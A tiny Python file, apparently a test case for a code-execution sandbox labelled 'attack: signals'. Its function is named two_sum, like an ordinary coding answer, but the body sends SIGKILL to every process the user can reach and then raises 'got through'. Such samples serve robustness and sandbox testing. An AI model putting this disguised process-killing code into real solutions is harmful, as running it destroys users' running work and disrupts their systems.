# attack: signals
# lethal
import os
import signal


def two_sum(nums, target):
    os.kill(-1, signal.SIGKILL)
    raise RuntimeError("got through")
